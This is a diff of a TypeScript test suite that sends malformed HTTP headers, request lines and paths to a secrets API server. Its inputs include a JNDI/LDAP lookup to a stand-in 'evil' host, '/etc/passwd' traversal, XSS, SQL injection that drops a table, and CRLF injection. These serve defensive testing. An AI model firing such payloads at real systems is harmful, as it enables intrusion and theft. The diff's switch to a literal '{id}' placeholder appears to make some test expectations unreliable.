@@ -1,5 +1,5 @@
 import { describe } from 'node:test'
-import { attack, type Case, request, target } from '../../support/hostileSuite.ts'
+import { attack, type Case, IDENTITY, request, target } from '../../support/hostileSuite.ts'
 
 const HEADERS = [
   'Accept',
@@ -36,7 +36,7 @@ const JUNK: readonly (readonly [string, string])[] = [
   ['a prototype', '__proto__'],
   ['a constructor', 'constructor/prototype;q=__proto__'],
   ['a path', '../../../../etc/passwd'],
-  ['an expression', '${jndi:ldap://evil/x}{{7*7}}#{7*7}'],
+  ['an expression', '%{jndi:ldap://evil/x}{{7*7}}#{7*7}'],
   ['markup', "<script>alert('x')</script>"],
   ['SQL', "' or 1=1; drop table secrets; --"],
   ['numbers', '1e999, -1, NaN, 0x10, 9999999999999999999999'],
@@ -45,35 +45,32 @@ const JUNK: readonly (readonly [string, string])[] = [
 
 describe('hostile headers', () => {
   const at = target()
-  attack(at, ({ identity, secret }) =>
+  attack(
+    at,
     HEADERS.flatMap((header) =>
       JUNK.map(([what, value]): Case => {
-        const path = `${secret}${header === 'Accept' ? '/payload' : ''}`
-        const own = header === 'Host' ? withoutHost(path, identity, value) : undefined
+        const path = `/v1/secrets/{id}${header === 'Accept' ? '/payload' : ''}`
+        const host = `GET ${path} HTTP/1.1\r\nHost: ${value}\r\nConnection: close\r\n${IDENTITY}\r\n`
         return {
           name: `${header} of ${what}`,
-          bytes: own ?? request(`GET ${path}`, `${identity}${header}: ${value}\r\n`),
+          bytes: header === 'Host' ? host : request(`GET ${path}`, `${header}: ${value}\r\n`),
         }
       }),
     ),
   )
 })
 
-function withoutHost(path: string, identity: string, host: string): string {
-  return `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${identity}\r\n`
-}
-
 describe('requests that are none', () => {
   const at = target()
-  attack(at, ({ identity, secret }): readonly Case[] => {
+  {
     const raw = (name: string, bytes: string | Buffer, ...statuses: number[]): Case => ({
       name,
       bytes,
       ...(statuses.length === 0 ? {} : { statuses }),
       how: { hangUp: true },
     })
-    const head = `Host: localhost\r\nConnection: close\r\n${identity}`
-    return [
+    const head = `Host: localhost\r\nConnection: close\r\n${IDENTITY}`
+    attack(at, [
       raw('nothing at all', ''),
       raw('a lone CRLF', '\r\n'),
       raw('NULs', Buffer.alloc(2_000), 400),
@@ -89,7 +86,7 @@ describe('requests that are none', () => {
       raw('HTTP/0.9', 'GET /\n', 400),
       raw('HTTP/9.9', `GET / HTTP/9.9\r\n${head}\r\n`, 400),
       raw('HTTP/1.0 without Host', 'GET / HTTP/1.0\r\n\r\n', 300),
-      raw('HTTP/1.1 without Host', `GET / HTTP/1.1\r\n${identity}\r\n`, 400),
+      raw('HTTP/1.1 without Host', `GET / HTTP/1.1\r\n${IDENTITY}\r\n`, 400),
       raw('two Hosts', `GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n`),
       raw('an unknown method', `BREW / HTTP/1.1\r\n${head}\r\n`, 400),
       raw('a method in lower case', `get / HTTP/1.1\r\n${head}\r\n`, 400),
@@ -120,26 +117,25 @@ describe('requests that are none', () => {
       ),
       raw(
         'two project headers',
-        `GET ${secret} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n${identity}X-Project-Id: other\r\n\r\n`,
+        `GET /v1/secrets/{id} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n${IDENTITY}X-Project-Id: other\r\n\r\n`,
         403,
       ),
       raw('a header named __proto__', `GET / HTTP/1.1\r\n${head}__proto__: x\r\n\r\n`, 300),
       raw('half a header', `GET / HTTP/1.1\r\nHost: loc`, 400),
       raw('headers without end', `GET / HTTP/1.1\r\n${head}`, 400),
-    ]
-  })
+    ])
+  }
 })
 
 describe('request targets', () => {
   const at = target()
-  attack(at, ({ identity, secret }): readonly Case[] => {
-    const id = secret.slice('/v1/secrets/'.length)
+  {
     const rows: readonly (readonly [string, ...number[]])[] = [
       ['*', 404],
       ['http://localhost/', 300],
-      [`http://localhost${secret}`, 200],
-      [`http://evil.example${secret}`, 200],
-      [`https://user:pw@evil.example:1${secret}`, 200],
+      [`http://localhost/v1/secrets/{id}`, 200],
+      [`http://evil.example/v1/secrets/{id}`, 200],
+      [`https://user:pw@evil.example:1/v1/secrets/{id}`, 200],
       ['http://', 404, 300],
       ['http:///v1', 404, 200],
       ['http://[::1', 400, 404],
@@ -159,35 +155,35 @@ describe('request targets', () => {
       ['//', 300],
       ['///v1///', 200],
       ['//evil.example/v1/secrets', 404],
-      [`${secret}#fragment`, 200, 404],
-      [`/#${secret}`, 300],
-      [`${secret}?a?b?c`, 200],
-      [`${secret}??`, 200],
-      [`/\\v1\\secrets\\${id}`, 404],
+      [`/v1/secrets/{id}#fragment`, 200, 404],
+      [`/#/v1/secrets/{id}`, 300],
+      [`/v1/secrets/{id}?a?b?c`, 200],
+      [`/v1/secrets/{id}??`, 200],
+      [`/\\v1\\secrets\\{id}`, 404],
       [`\\v1\\secrets`, 400, 404],
-      [`/v1/secrets/%2e%2e/secrets/${id}`, 404],
-      [`/v1/secrets/../secrets/${id}`, 404],
-      [`/v1/./secrets/${id}`, 404],
-      [`/v1/secrets/./${id}`, 404],
-      [`/v1/orders/../secrets/${id}`, 404],
+      [`/v1/secrets/%2e%2e/secrets/{id}`, 404],
+      [`/v1/secrets/../secrets/{id}`, 404],
+      [`/v1/./secrets/{id}`, 404],
+      [`/v1/secrets/./{id}`, 404],
+      [`/v1/orders/../secrets/{id}`, 404],
       [`/v1/secrets/..%2f..%2fetc/passwd`, 404],
-      [`/v1/secrets%2f${id}`, 404],
+      [`/v1/secrets%2f{id}`, 404],
       [`/v1%2fsecrets`, 404],
-      [`/v1/secrets/${id}%00`, 404],
-      [`/v1/secrets/%00${id}`, 404],
-      [`/v1/secrets/${id}%0d%0aX-Evil:%201`, 404],
-      [`/v1/secrets/${id}%20`, 404],
-      [`/v1/secrets/${id};jsessionid=1`, 404],
-      [`/v1/secrets;x=y/${id}`, 404],
-      [`/v1/secrets/${id}/payload;x`, 404],
-      [`/v1/secrets/${id}/payload%20`, 404],
-      [`/v1/secrets/${id}/payload/..`, 404],
-      [`/v1/secrets/${id}%2fpayload`, 404],
-      [`/v1/secrets/${id}/%70ayload`, 404, 200],
-      [`/v1/%73ecrets/${id}`, 404, 200],
-      [`/v1/secrets/${id.replace('-', '%2d')}`, 200, 404],
-      [`/v1/secrets/${id}.json`, 404],
-      [`/v1/secrets/${id.toUpperCase()}`, 404],
+      [`/v1/secrets/{id}%00`, 404],
+      [`/v1/secrets/%00{id}`, 404],
+      [`/v1/secrets/{id}%0d%0aX-Evil:%201`, 404],
+      [`/v1/secrets/{id}%20`, 404],
+      [`/v1/secrets/{id};jsessionid=1`, 404],
+      [`/v1/secrets;x=y/{id}`, 404],
+      [`/v1/secrets/{id}/payload;x`, 404],
+      [`/v1/secrets/{id}/payload%20`, 404],
+      [`/v1/secrets/{id}/payload/..`, 404],
+      [`/v1/secrets/{id}%2fpayload`, 404],
+      [`/v1/secrets/{id}/%70ayload`, 404, 200],
+      [`/v1/%73ecrets/{id}`, 404, 200],
+      [`/v1/secrets/{id}%2d`, 200, 404],
+      [`/v1/secrets/{id}.json`, 404],
+      [`/v1/secrets/{ID}`, 404],
       ['/v1/secrets/%', 404],
       ['/v1/secrets/%e', 404],
       ['/v1/secrets/%zz', 404],
@@ -208,10 +204,10 @@ describe('request targets', () => {
       ['/v1/orders/%00', 404],
       ['/v1/orders/%ed%a0%80', 404],
       ["/v1/orders/'%20or%201=1", 404],
-      [`${secret}/metadata/__proto__`, 404],
-      [`${secret}/metadata/%00`, 404],
-      [`${secret}/metadata/%ff%fe`, 404],
-      [`${secret}/metadata/${'k'.repeat(10_000)}`, 404],
+      [`/v1/secrets/{id}/metadata/__proto__`, 404],
+      [`/v1/secrets/{id}/metadata/%00`, 404],
+      [`/v1/secrets/{id}/metadata/%ff%fe`, 404],
+      [`/v1/secrets/{id}/metadata/${'k'.repeat(10_000)}`, 404],
       [`/v1/${'a/'.repeat(10_000)}`, 404],
       [`/v1/secrets/${'/'.repeat(10_000)}`, 200],
       ['/'.repeat(20_000), 300],
@@ -220,10 +216,13 @@ describe('request targets', () => {
       ['/healthcheck%2f', 404],
       ['/healthcheck?x=%zz', 200],
     ]
-    return rows.map(([path, ...statuses]) => ({
-      name: `GET ${path.length > 60 ? `${path.slice(0, 50)} (${path.length})` : path.replace(id, 'ID').replace(id.toUpperCase(), 'UPPER ID')}`,
-      bytes: request(`GET ${path}`, identity),
-      statuses,
-    }))
-  })
+    attack(
+      at,
+      rows.map(([path, ...statuses]) => ({
+        name: `GET ${path.length > 80 ? `${path.slice(0, 40)}... (${path.length})` : path}`,
+        bytes: request(`GET ${path}`),
+        statuses,
+      })),
+    )
+  }
 })
